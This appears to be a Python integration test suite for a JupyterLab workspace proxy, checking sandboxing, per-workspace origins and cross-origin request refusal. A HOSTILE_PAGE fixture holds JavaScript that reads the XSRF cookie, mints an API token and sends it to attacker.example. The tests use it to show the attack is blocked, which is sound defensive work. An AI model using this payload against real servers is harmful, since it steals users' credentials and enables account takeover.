"""A workspace's pages, relayed by the real proxy from a real workspace container: what the
container serves runs sandboxed (an opaque origin, without this server's cookies, storage
or API), and the container's own policies and cookies never reach the browser.
JupyterLab's application pages, which cannot run sandboxed, are served on the workspace's
own origin (workbench_ext/proxy.py), from which this server's API refuses everything."""

from __future__ import annotations

from datetime import timedelta
from urllib.parse import urlsplit

import httpx
import pytest

from tests.integration.conftest import Lab, jp_base_url, jp_server_config, lab
from tests.integration.test_workspace_proxy import login
from workbench.registry import models as m
from workbench_ext.proxy import APP_POLICY, SANDBOX, route

pytestmark = [pytest.mark.docker, pytest.mark.slow]
__all__ = ["jp_base_url", "jp_server_config", "lab"]  # the fixtures, taken as they are

#: a page a workspace's user leaves for a member to open: with this server's cookies it
#: would read the login's _xsrf and mint a token as the member
HOSTILE_PAGE = """<html><body><script>
const xsrf = document.cookie.match(/_xsrf=([^;]+)/)[1];
fetch("/wb/workbench/api/v1/tokens", {method: "POST", headers: {"X-XSRFToken": xsrf},
  body: JSON.stringify({name: "stolen"})}).then(r => r.text()).then(t =>
  fetch("http://attacker.example/?" + encodeURIComponent(t)));
</script></body></html>"""


async def test_a_workspace_page_runs_sandboxed_without_the_containers_headers(lab: Lab):
    ws_id = lab.create(lab.owner)
    await lab.start(lab.owner, ws_id)
    await lab.wait_ready(ws_id)
    async with lab.client() as browser:
        xsrf = await login(lab, browser)
        r = await browser.put(
            lab.url(ws_id, "api/contents/evil.html"),
            json={"type": "file", "format": "text", "content": HOSTILE_PAGE},
            headers={"X-XSRFToken": xsrf},
        )
        assert r.status_code == 201, r.text
        assert r.headers["Content-Security-Policy"] == SANDBOX  # an API answer too

        # the container answers with policies of its own (and, on its pages, cookies)
        upstream, token, _ = route(lab.wb, lab.owner.username, ws_id)
        prefix = f"http://{upstream}/wb/workbench/proxy/workspaces/{ws_id}/"
        async with httpx.AsyncClient() as direct:
            own = await direct.get(f"{prefix}files/evil.html", params={"token": token})
            own_lab = await direct.get(f"{prefix}lab", params={"token": token})
        assert own.status_code == 200 and "Content-Security-Policy" in own.headers
        assert own.headers["Content-Security-Policy"] != SANDBOX
        assert "Content-Security-Policy" in own_lab.headers

        page = await browser.get(lab.url(ws_id, "files/evil.html"))
        assert page.status_code == 200 and "document.cookie" in page.text
        assert page.headers.get_list("Content-Security-Policy") == [SANDBOX]
        assert "allow-same-origin" not in SANDBOX
        assert "Content-Security-Policy-Report-Only" not in page.headers
        assert "set-cookie" not in page.headers

        moved = await browser.get(lab.url(ws_id, "lab"))
        assert moved.status_code == 302
        app = await browser.get(moved.headers["Location"])
        assert app.status_code == 200 and "JupyterLab" in app.text
        assert app.headers.get_list("Content-Security-Policy") == [APP_POLICY]
        assert "report-uri" not in app.headers["Content-Security-Policy"]
        assert "set-cookie" not in app.headers
        if "set-cookie" in own_lab.headers:  # what the container would have set
            assert "set-cookie" not in app.headers


async def test_jupyterlab_runs_on_an_origin_of_the_workspaces_own(lab: Lab):
    """The attack: a workspace's JupyterLab is the container's to serve, so its owner can
    put script there; a member who opens it must not lend that script this server's API.
    On this server's origin (before) the page's script minted a token as the member."""
    ws_id = lab.create(lab.owner)
    await lab.start(lab.owner, ws_id)
    await lab.wait_ready(ws_id)
    async with lab.client() as browser:
        xsrf = await login(lab, browser)
        moved = await browser.get(lab.url(ws_id, "doc/tree/evil.ipynb"), params={"x": "1"})
        assert moved.status_code == 302
        own = urlsplit(moved.headers["Location"])
        server = urlsplit(lab.server_url)
        assert (own.scheme, own.hostname) == (server.scheme, server.hostname)
        assert own.port != server.port
        assert own.path == f"{server.path}workbench/proxy/workspaces/{ws_id}/doc/tree/evil.ipynb"
        assert own.query == "x=1"
        origin = f"{own.scheme}://{own.netloc}"
        base = f"{origin}{server.path}"

        # the page works there: the login cookie, the XSRF check and the relay
        app = await browser.get(f"{base}workbench/proxy/workspaces/{ws_id}/lab")
        assert app.status_code == 200 and "JupyterLab" in app.text
        kernels = f"{base}workbench/proxy/workspaces/{ws_id}/api/kernels"
        assert (await browser.get(kernels, headers={"Origin": origin})).status_code == 200
        assert (await browser.post(kernels, json={}, headers={"Origin": origin})).status_code == 403

        # what its script would send this server: refused, nothing minted
        tokens_before = lab.wb.users.list_tokens(lab.owner)
        steal = {"X-XSRFToken": xsrf, "Origin": origin}
        for url in (f"{lab.server_url}workbench/api/v1/tokens", f"{lab.server_url}api/contents"):
            r = await browser.post(url, json={"name": "stolen"}, headers=steal)
            assert r.status_code in (403, 404), (url, r.status_code, r.text)
        form = {"_xsrf": xsrf, "name": "stolen"}
        r = await browser.post(
            f"{lab.server_url}workbench/api/v1/tokens", data=form, headers={"Origin": origin}
        )
        assert r.status_code in (403, 404)
        assert lab.wb.users.list_tokens(lab.owner) == tokens_before

        # the origin serves this workspace's relay and nothing else
        other = lab.create(lab.owner, name="other")
        for path in (
            "workbench/api/v1/tokens",
            "api/contents",
            "workbench/panel",
            "static/style/bootstrap.min.css",  # not even this server's static files
            "favicon.ico",
            f"workbench/proxy/workspaces/{other}/lab",
        ):
            r = await browser.get(f"{base}{path}")
            assert r.status_code == 404, (path, r.status_code)

    async with lab.client() as anonymous:  # no login: refused, no login page there
        r = await anonymous.get(f"{base}workbench/proxy/workspaces/{ws_id}/lab")
        assert r.status_code == 403


async def test_an_origin_belongs_to_one_workspace_not_to_its_id(lab: Lab):
    """The attack: SQLite gives a new workspace the id of the newest one deleted. Had the
    origin stayed with the id, what the deleted workspace's owner left on it (a service
    worker over the workspace's path, storage, an open tab) would run in the new
    workspace's pages as whoever opens them. Here the workspace is made new in place (its
    creation time changed, as a new row with its id would have), on either registry."""
    ws_id = lab.create(lab.owner)
    await lab.start(lab.owner, ws_id)
    await lab.wait_ready(ws_id)
    async with lab.client() as browser:
        await login(lab, browser)
        first = (await browser.get(lab.url(ws_id, "lab"))).headers["Location"]
        assert (await browser.get(first)).status_code == 200
        with lab.wb.registry.session() as s:
            row = s.get(m.Workspace, ws_id)
            row.created_at = row.created_at + timedelta(seconds=1)

        second = (await browser.get(lab.url(ws_id, "lab"))).headers["Location"]
        assert urlsplit(second).port != urlsplit(first).port
        assert (await browser.get(second)).status_code == 200
        # the old origin is closed (or, were it still open, would refuse)
        with pytest.raises(httpx.ConnectError):
            await browser.get(first)


async def test_requests_a_browser_sends_for_another_origin_are_refused(lab: Lab):
    """The attack: browsers send a host's cookies to all its ports and call them the same
    site, so a workspace's page can make a member's browser send requests with their login
    that carry no Origin (an image, a script, a plain form): each panel page it loads
    starts a kernel on the server; another workspace's files load as its script."""
    ws_id = lab.create(lab.owner)
    await lab.start(lab.owner, ws_id)
    await lab.wait_ready(ws_id)
    async with lab.client() as browser:
        await login(lab, browser)
        embedded = {"Sec-Fetch-Site": "same-site", "Sec-Fetch-Mode": "no-cors"}
        for path, dest in (
            ("workbench/api/v1/me", "image"),
            ("workbench/panel", "iframe"),
            (f"workbench/proxy/workspaces/{ws_id}/files/x.js", "script"),
        ):
            r = await browser.get(
                f"{lab.server_url}{path}", headers={**embedded, "Sec-Fetch-Dest": dest}
            )
            assert r.status_code == 403, (path, r.status_code)
        r = await browser.get(f"{lab.server_url}workbench/api/v1/me", headers=embedded)
        assert "another origin" in r.json()["message"]
        # a user following a link from elsewhere still gets there; so do same-origin pages
        followed = {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "navigate"}
        r = await browser.get(f"{lab.server_url}workbench/api/v1/me", headers=followed)
        assert r.status_code == 200
        same = {"Sec-Fetch-Site": "same-origin", "Sec-Fetch-Mode": "cors"}
        r = await browser.get(f"{lab.server_url}workbench/api/v1/me", headers=same)
        assert r.status_code == 200


async def test_behind_a_reverse_proxy_the_workspace_origin_says_what_to_set(lab: Lab):
    """A proxy in front of the server would not reach the workspace's port (and, ending
    TLS, would send the login cookie over plain HTTP to it): a clear error instead."""
    ws_id = lab.create(lab.owner)
    await lab.start(lab.owner, ws_id)
    await lab.wait_ready(ws_id)
    async with lab.client() as browser:
        await login(lab, browser)
        r = await browser.get(lab.url(ws_id, "lab"), headers={"X-Forwarded-For": "10.0.0.9"})
        assert r.status_code == 409
        assert "workspace_origins = 'shared'" in r.json()["message"]
